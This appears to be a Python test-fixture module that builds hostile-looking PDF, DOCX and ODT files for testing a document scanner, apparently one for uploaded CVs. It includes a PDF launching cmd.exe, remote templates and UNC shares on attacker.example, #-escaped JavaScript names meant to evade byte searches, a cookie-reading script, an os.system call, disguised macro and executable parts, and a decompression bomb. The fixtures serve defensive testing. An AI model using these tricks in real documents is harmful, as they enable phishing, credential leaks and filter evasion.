"""Documents that carry active content, polyglots and tricks, built the way an attacker's
tools build them: PDFs written by pypdf (or by hand where pypdf would not write the trick),
and DOCX or ODT archives written by zipfile."""

import io
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.applications.files import ONE_PAGE, build_pdf, docx, odt

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
VBA_CONTENT_TYPE = "application/vnd.ms-office.vbaProject"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


# PDF


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def _javascript(code: str = "app.alert('hello')") -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def clean_pdf_with_links() -> bytes:
    """What real CVs hold: a link to a web page and a bookmark to a page."""
    writer = _writer()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 200, 30)]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject("https://example.org/portfolio"),
                }
            ),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    writer.add_outline_item(title="Expérience", page_number=0)
    writer.add_metadata({"/Title": "CV", "/Author": "Camille"})
    return _written(writer)


def pdf_open_action_javascript() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(_javascript())
    return _written(writer)


def pdf_names_javascript() -> bytes:
    """A document-level script in the /Names /JavaScript tree, as pypdf's add_open_action
    writes it."""
    writer = _writer()
    writer.add_open_action(JavaScript("app.launchURL('https://example.org/', true);"))
    return _written(writer)


def pdf_page_additional_action() -> bytes:
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript()})
    return _written(writer)


def pdf_catalog_additional_action() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): _javascript("this.print()")}
    )
    return _written(writer)


def pdf_launch() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    return _written(writer)


def pdf_go_to_remote() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoToR"),
            NameObject("/F"): TextStringObject("\\\\attacker.example\\share\\x.pdf"),
            NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
        }
    )
    return _written(writer)


def pdf_embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("facture.exe", b"MZ\x90\x00")
    return _written(writer)


def pdf_encrypted() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="", owner_password="secret", algorithm="RC4-128")
    return _written(writer)


def pdf_link_running_javascript() -> bytes:
    """A link annotation whose action is a script, chained after a harmless one by /Next."""
    return build_pdf(
        (
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A 5 0 R>>",
            b"<</S/URI/URI(https://example.org)/Next[6 0 R]>>",
            b"<</S/JavaScript/JS(app.alert(1))>>",
        )
    )


def pdf_escaped_names() -> bytes:
    """/OpenAction << /S /JavaScript /JS ... >> spelt with #-escapes, as PDF allows and a
    byte search for "/JavaScript" misses."""
    return build_pdf(
        (
            b"<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>",
            *ONE_PAGE[1:],
            b"<</S/J#61v#61Script/J#53 5 0 R>>",
            b"<</Length 11>>\nstream\napp.alert()\nendstream",
        )
    )


def pdf_outline_javascript() -> bytes:
    """A bookmark that runs a script when clicked."""
    return build_pdf(
        (
            b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
            *ONE_PAGE[1:],
            b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
            b"<</Title(CV)/Parent 4 0 R/A<</S/JavaScript/JS(app.alert(1))>>>>",
        )
    )


def pdf_xfa() -> bytes:
    return build_pdf(
        (
            b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>",
            *ONE_PAGE[1:],
            b"<</Length 7>>\nstream\n<xdp/>\nendstream",
        )
    )


def pdf_rich_media() -> bytes:
    return build_pdf(
        (
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>",
            b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 100 100]>>",
        )
    )


def pdf_with_zip_appended() -> bytes:
    return build_pdf() + docx()


def html_carrying_pdf_header() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script>\n" + build_pdf()


def svg_carrying_pdf_header() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!-- '
        + build_pdf()
        + b" --></svg>"
    )


# DOCX and ODT


def _docx_with(*extra: tuple[str, bytes], content_types: str | None = None) -> bytes:
    types = content_types or (
        '<?xml version="1.0"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>'
        "</Types>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<w:document>Curriculum vitae</w:document>")
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with_macros() -> bytes:
    return _docx_with(("word/vbaProject.bin", OLE2))


def docx_declaring_a_renamed_macro_project() -> bytes:
    """The VBA project under an innocent name: Word goes by the declared content type."""
    types = (
        '<?xml version="1.0"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>'
        f'<Override PartName="/word/notes.dat" ContentType="{VBA_CONTENT_TYPE}"/>'
        "</Types>"
    )
    return _docx_with(("word/notes.dat", b"Attribute VB_Name"), content_types=types)


def docm() -> bytes:
    types = (
        '<?xml version="1.0"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{DOCM_MAIN}"/>'
        "</Types>"
    )
    return _docx_with(content_types=types)


def docx_with_activex() -> bytes:
    return _docx_with(("word/activeX/activeX1.bin", b"\x00" * 64))


def docx_with_ole_object_renamed() -> bytes:
    """An OLE package (the classic "click to run" object) named like an image."""
    return _docx_with(("word/media/image1.png", OLE2))


def docx_with_nested_archive() -> bytes:
    return _docx_with(("word/embeddings/Feuille.xlsx", docx()))


def docx_with_nested_archive_named_like_xml() -> bytes:
    return _docx_with(("customXml/item1.xml", docx()))


def docx_with_gzip() -> bytes:
    return _docx_with(("word/media/image2.emf", b"\x1f\x8b\x08\x00" + bytes(20)))


def docx_with_program() -> bytes:
    return _docx_with(("word/media/image3.png", b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00"))


def docx_with_entry_named(name: str) -> bytes:
    return _docx_with((name, b"<x/>"))


def docx_with_data_before() -> bytes:
    """Bytes before the archive that still start with a local-header signature: zipfile
    finds the archive anyway, as it does behind a self-extractor."""
    return b"PK\x03\x04" + b"<html><script>alert(1)</script></html>" + docx()


def docx_with_data_after() -> bytes:
    return docx() + b"<html><script>alert(1)</script></html>"


def docx_carrying_pdf_header() -> bytes:
    """A PDF reader looks for its header in the first kilobyte: here, a stored first entry."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("customXml/item1.xml", build_pdf())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def odt_with(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO(odt())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def odt_with_basic_macros() -> bytes:
    return odt_with("Basic/Standard/Module1.xml", b"<script:module>Shell(...)</script:module>")


def odt_with_python_script() -> bytes:
    return odt_with("Scripts/python/run.py", b"import os; os.system('id')")


def pdf_object_stream_bomb(inflated: int = 20 * 1024 * 1024) -> bytes:
    """The catalog inside an object stream that inflates to ``inflated`` bytes: reading the
    catalog means inflating the stream, as in every PDF 1.5 file with object streams."""
    catalog = b"<</Type/Catalog/Pages 4 0 R>>"
    header = b"2 0 "
    payload = zlib.compress(header + catalog + b" " * inflated, 9)
    parts = [b"%PDF-1.7\n"]
    offsets = {}
    offsets[1] = len(b"".join(parts))
    parts.append(
        b"1 0 obj\n<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
        % (len(header), len(payload))
        + payload
        + b"\nendstream\nendobj\n"
    )
    offsets[4] = len(b"".join(parts))
    parts.append(b"4 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n")
    offsets[3] = len(b"".join(parts))
    rows = b"".join(
        [
            b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff",
            b"\x01" + offsets[1].to_bytes(4, "big") + b"\x00\x00",
            b"\x02" + (1).to_bytes(4, "big") + b"\x00\x00",
            b"\x01" + offsets[3].to_bytes(4, "big") + b"\x00\x00",
            b"\x01" + offsets[4].to_bytes(4, "big") + b"\x00\x00",
        ]
    )
    parts.append(
        b"3 0 obj\n<</Type/XRef/Size 5/W[1 4 2]/Root 2 0 R/Length %d>>\nstream\n" % len(rows)
        + rows
        + b"\nendstream\nendobj\n"
    )
    parts.append(b"startxref\n%d\n%%%%EOF\n" % offsets[3])
    return b"".join(parts)


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _relationships(kind: str, target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    ).encode()


def docx_with_remote_template() -> bytes:
    """Template injection: Word fetches the template, macros and all, when it opens."""
    return _docx_with(
        (
            "word/_rels/settings.xml.rels",
            _relationships("attachedTemplate", "https://attacker.example/t.dotm"),
        )
    )


def docx_with_remote_image() -> bytes:
    return _docx_with(
        (
            "word/_rels/document.xml.rels",
            _relationships("image", "file://///attacker.example/share/pixel.png"),
        )
    )


def docx_with_a_web_link() -> bytes:
    return _docx_with(
        (
            "word/_rels/document.xml.rels",
            _relationships("hyperlink", "https://example.org/portfolio"),
        )
    )


def pdf_link_to(uri: bytes) -> bytes:
    return build_pdf(
        (
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(" + uri + b")>>>>",
        )
    )


def docx_from_an_office_template() -> bytes:
    """What Word writes for a CV made from one of its templates: the template's path on the
    author's disk, an external target that reaches nothing on the recruiter's machine."""
    return _docx_with(
        (
            "word/_rels/settings.xml.rels",
            _relationships(
                "attachedTemplate",
                "file:///C:\\Users\\camille\\AppData\\Roaming\\Microsoft\\Templates\\TF16392740.dotx",
            ),
        )
    )


def docx_with_template_on_a_share() -> bytes:
    return _docx_with(
        (
            "word/_rels/settings.xml.rels",
            _relationships("attachedTemplate", "\\\\attacker.example\\share\\t.dotm"),
        )
    )
